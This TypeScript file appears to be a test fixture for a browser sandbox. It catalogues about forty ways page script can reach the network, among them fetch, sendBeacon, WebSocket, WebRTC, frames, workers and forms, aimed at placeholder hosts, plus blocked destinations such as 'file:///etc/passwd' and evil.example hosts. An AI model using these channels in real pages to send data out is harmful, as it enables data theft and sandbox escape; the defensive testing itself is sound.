/* What a hostile script in the page may try, as source text: it runs in the page's own world, with the bridge at hand. */

/** One way out to the network. `URL` in the text is an address of the listener, `HOST` its host and port. */
export interface NetworkAttack {
  readonly name: string;
  readonly script: string;
}

const element = (tag: string, members: string, parent = 'head') =>
  `const made = Object.assign(document.createElement('${tag}'), ${members}); document.${parent}.append(made);`;

export const NETWORK_ATTACKS: readonly NetworkAttack[] = [
  { name: 'fetch', script: "await fetch('URL')" },
  {
    name: 'fetch without CORS',
    script: "await fetch('URL', { mode: 'no-cors', method: 'POST', body: 'x' })",
  },
  {
    name: 'fetch that outlives the page',
    script: "await fetch('URL', { keepalive: true, mode: 'no-cors' })",
  },
  { name: 'fetchLater', script: "fetchLater('URL', { activateAfter: 0 })" },
  {
    name: 'XMLHttpRequest',
    script: "const one = new XMLHttpRequest(); one.open('GET', 'URL'); one.send()",
  },
  { name: 'WebSocket', script: "new WebSocket('ws://HOST/')" },
  { name: 'EventSource', script: "new EventSource('URL')" },
  { name: 'WebTransport', script: "await new WebTransport('https://HOST/').ready" },
  { name: 'sendBeacon', script: "navigator.sendBeacon('URL', 'x')" },
  { name: 'an image', script: "new Image().src = 'URL'" },
  { name: 'a style sheet', script: element('link', "{ rel: 'stylesheet', href: 'URL' }") },
  { name: 'a link that prefetches', script: element('link', "{ rel: 'prefetch', href: 'URL' }") },
  { name: 'a link that preloads', script: element('link', "{ rel: 'preload', as: 'image', href: 'URL' }") },
  { name: 'a module that preloads', script: element('link', "{ rel: 'modulepreload', href: 'URL' }") },
  { name: 'a link that connects early', script: element('link', "{ rel: 'preconnect', href: 'URL' }") },
  { name: 'a looked-up name', script: element('link', "{ rel: 'dns-prefetch', href: '//HOST' }") },
  { name: 'an icon', script: element('link', "{ rel: 'icon', href: 'URL' }") },
  { name: 'a manifest', script: element('link', "{ rel: 'manifest', href: 'URL' }") },
  {
    name: 'a background in a constructed style sheet',
    script: `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(URL) }');
      document.adoptedStyleSheets = [sheet]; document.body.getBoundingClientRect()`,
  },
  {
    name: 'a style that is set',
    script: "document.body.style.backgroundImage = 'url(URL)'; document.body.getBoundingClientRect()",
  },
  { name: 'a font', script: "await new FontFace('x', 'url(URL)').load()" },
  { name: 'a video', script: element('video', "{ src: 'URL', preload: 'auto' }", 'body') },
  { name: 'an audio file', script: "new Audio('URL').load()" },
  { name: 'a script', script: element('script', "{ src: 'URL' }") },
  { name: 'an import', script: "await import('URL')" },
  {
    name: 'speculation rules',
    script: element('script', `{ type: 'speculationrules', textContent: '{"prefetch":[{"urls":["URL"]}]}' }`),
  },
  { name: 'a frame', script: element('iframe', "{ src: 'URL' }", 'body') },
  {
    name: 'a frame with a document of its own',
    script: element('iframe', `{ srcdoc: '<img src="URL"><script src="URL"></script>' }`, 'body'),
  },
  {
    name: 'an empty frame’s own fetch',
    script: `const frame = document.createElement('iframe'); document.body.append(frame);
      await frame.contentWindow.fetch('URL', { mode: 'no-cors' })`,
  },
  { name: 'an object', script: element('object', "{ data: 'URL' }", 'body') },
  { name: 'an embedded page', script: element('embed', "{ src: 'URL' }", 'body') },
  { name: 'a worker', script: "new Worker('URL')" },
  {
    name: 'a worker of the page’s own making',
    script: "new Worker(window.URL.createObjectURL(new Blob(['fetch(`URL`)'])))",
  },
  { name: 'a shared worker', script: "new SharedWorker('URL')" },
  { name: 'a service worker', script: "await navigator.serviceWorker.register('/assets/index.js')" },
  {
    name: 'a form',
    script: `const form = Object.assign(document.createElement('form'), { action: 'URL', method: 'post' });
      document.body.append(form); form.submit()`,
  },
  {
    name: 'a form into another window',
    script: `const form = Object.assign(document.createElement('form'), { action: 'URL', target: '_blank' });
      document.body.append(form); form.requestSubmit()`,
  },
  {
    name: 'a ping of a link',
    script: `${element('a', "{ href: '#', ping: 'URL' }", 'body')} made.click()`,
  },
  {
    name: 'WebRTC over UDP',
    script: `const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] });
      peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
  },
  {
    name: 'WebRTC over TCP',
    script: `const peer = new RTCPeerConnection({ iceTransportPolicy: 'relay',
        iceServers: [{ urls: 'turn:HOST?transport=tcp', username: 'x', credential: 'x' }] });
      peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
  },
  {
    name: 'WebRTC towards a peer',
    script: `const peer = new RTCPeerConnection(); peer.createDataChannel('x');
      await peer.setLocalDescription(await peer.createOffer());
      const answer = peer.localDescription.sdp.replace(/a=setup:.*/g, 'a=setup:active').replace(/a=candidate.*\\r\\n/g, '')
        .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:abcd').replace(/a=ice-pwd:.*/g, 'a=ice-pwd:abcdefghijklmnopqrstuvwx');
      await peer.setRemoteDescription({ type: 'answer', sdp: answer });
      const [ip, port] = 'HOST'.split(':');
      await peer.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 udp 2122260223 ' + ip + ' ' + port + ' typ host' })`,
  },
];

/** Where a page may try to go. */
export const DESTINATIONS: readonly string[] = [
  'URL',
  'https://localhost/other',
  'https://localhost/?q=1',
  'https://localhost.evil.example/',
  'about:blank',
  'about:srcdoc',
  'data:text/html,escaped',
  'file:///etc/passwd',
  'view-source:https://localhost/',
  'chrome://settings',
  'devtools://devtools/bundled/inspector.html',
  'mailto:a@b.example',
  'ms-settings:',
  'shell:startup',
  'search-ms:query=x',
  '\\\\\\\\evil.example\\\\share',
  "blob:https://localhost/' + crypto.randomUUID() + '",
];
